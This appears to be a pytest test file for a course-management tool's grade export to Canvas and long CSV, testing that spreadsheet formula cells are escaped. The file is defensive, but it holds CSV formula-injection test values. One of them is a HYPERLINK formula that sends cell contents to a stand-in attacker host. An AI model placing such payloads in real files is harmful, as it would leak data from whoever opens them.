"""``coursehub grades export``: every graded assignment of a course, as Canvas's gradebook import and as a long CSV."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from coursehub.escape import csv_value
from coursehub.grading.gradebook import read_course_grades, read_grades_csv
from coursehub.grading.results import Result, grades_csv
from coursehub.manifest.loader import load_manifest

FIXTURE = Path(__file__).parent / "fixtures" / "grades" / "canvas-export.csv"
# usernames and a title a spreadsheet would run as formulas
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A2,"open")'
MANIFEST = f"""\
hub: {{name: test-uni, url: https://hub.example.edu, image: data8}}
images: {{data8: {{standard: data8}}}}
courses:
  - id: c1
    title: Course one
    term: {{start: 2026-08-26, end: 2026-12-18}}
    students: [ada, "=1+2", "@sum(a1)", "+plus", bob]
    content: {{repo: https://github.com/example-org/c1}}
    assignments:
      - {{id: lab01, title: '{HOSTILE_TITLE}', path: lab01.ipynb, points: 10}}
      - {{id: lab02, title: "Lab 2: Loops", path: lab02.ipynb, points: 5}}
      - {{id: hw03, path: hw03.ipynb, points: 20}}
"""


def result(student: str, status: str, score: float, max_: float) -> Result:
    return Result(student=student, status=status, score=score, max=max_, questions={"q1": [score, max_]},
                  reason="" if status == "graded" else ("no submission" if status == "missing" else "-timed out"))


@pytest.fixture
def course(tmp_path):
    path = tmp_path / "manifest.yaml"
    path.write_text(MANIFEST, encoding="utf-8")
    grades = tmp_path / "grades"
    # lab01 graded with the roster's missing rows; lab02 graded before missing rows existed (bob only)
    (grades / "c1" / "lab01").mkdir(parents=True)
    (grades / "c1" / "lab01" / "grades.csv").write_bytes(grades_csv([
        result("ada", "graded", 8, 10), result("=1+2", "failed", 0, 10), result("@sum(a1)", "missing", 0, 10),
        result("+plus", "graded", 10, 10), result("bob", "graded", 2.5, 10), result("zed", "graded", 9, 10),
    ]))
    (grades / "c1" / "lab02").mkdir(parents=True)
    (grades / "c1" / "lab02" / "grades.csv").write_bytes(grades_csv([result("bob", "graded", 5, 5)]))
    return path, grades


def test_grades_csv_escapes_formula_cells_and_reads_back_exactly(course):
    path, grades = course
    text = (grades / "c1" / "lab01" / "grades.csv").read_text()
    assert "\n'=1+2," in text and "\n'@sum(a1)," in text and "\n'+plus," in text and ",'-timed out\n" in text
    rows = read_grades_csv(grades / "c1" / "lab01" / "grades.csv")
    assert set(rows) == {"ada", "=1+2", "@sum(a1)", "+plus", "bob", "zed"}
    assert rows["=1+2"].reason == "-timed out" and rows["bob"].score == 2.5
    manifest, _ = load_manifest(path)
    course_grades = read_course_grades(manifest, "c1", root=grades)
    assert [a.assignment.id for a in course_grades.assignments] == ["lab01", "lab02"]  # hw03: not graded yet
    assert course_grades.students == ["ada", "=1+2", "@sum(a1)", "+plus", "bob", "zed"]


def test_canvas_export_matches_the_documented_gradebook_import(course, run_cli, tmp_path):
    path, grades = course
    out = tmp_path / "canvas.csv"
    code, stdout, stderr = run_cli("grades", "export", path, "c1", "--grades", grades, "-o", out)
    assert code == 0, stderr
    assert "zed" in stderr  # graded but not on the roster: Canvas could not match the row, so it is left out
    assert out.read_bytes() == FIXTURE.read_bytes()
    rows = list(csv.reader(io.StringIO(FIXTURE.read_text(encoding="utf-8"))))
    header = rows[0]
    # what Canvas's importer (app/models/gradebook_importer.rb) checks: Student, ID, then SIS User ID and
    # SIS Login ID, and Section as the last student column; assignment columns after it; a Points Possible row
    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert header[5:] == ["'" + HOSTILE_TITLE, "Lab 2: Loops"]
    assert rows[1] == ["Points Possible", "", "", "", "", "10", "5"]
    students = {csv_value(r[3]): r for r in rows[2:]}
    assert list(students) == ["ada", "=1+2", "@sum(a1)", "+plus", "bob"]
    assert {s: r[5:] for s, r in students.items()} == {
        "ada": ["8", ""], "=1+2": ["0", ""], "@sum(a1)": ["0", ""], "+plus": ["10", ""], "bob": ["2.5", "5"]}
    # no cell a spreadsheet would evaluate
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_long_export_to_stdout_and_gradescope_is_refused(course, run_cli):
    path, grades = course
    code, stdout, stderr = run_cli("grades", "export", path, "c1", "--grades", grades, "--format", "long")
    assert code == 0, stderr
    rows = list(csv.DictReader(io.StringIO(stdout)))
    assert list(rows[0]) == ["course", "assignment", "title", "student", "score", "max", "status", "reason"]
    assert len(rows) == 7
    assert {(r["assignment"], csv_value(r["student"]), r["score"], r["max"], r["status"]) for r in rows} >= {
        ("lab01", "=1+2", "0", "10", "failed"), ("lab01", "zed", "9", "10", "graded"), ("lab02", "bob", "5", "5", "graded")}
    code, stdout, stderr = run_cli("grades", "export", path, "c1", "--grades", grades, "--format", "gradescope")
    assert code == 2 and "Gradescope" in stderr and not stdout


def test_nothing_graded_is_an_error_that_says_where_it_looked(course, run_cli, tmp_path):
    path, _ = course
    code, _, stderr = run_cli("grades", "export", path, "c1", "--grades", tmp_path / "nowhere")
    assert code == 2 and "no graded assignment of c1" in stderr and "grades.csv" in stderr
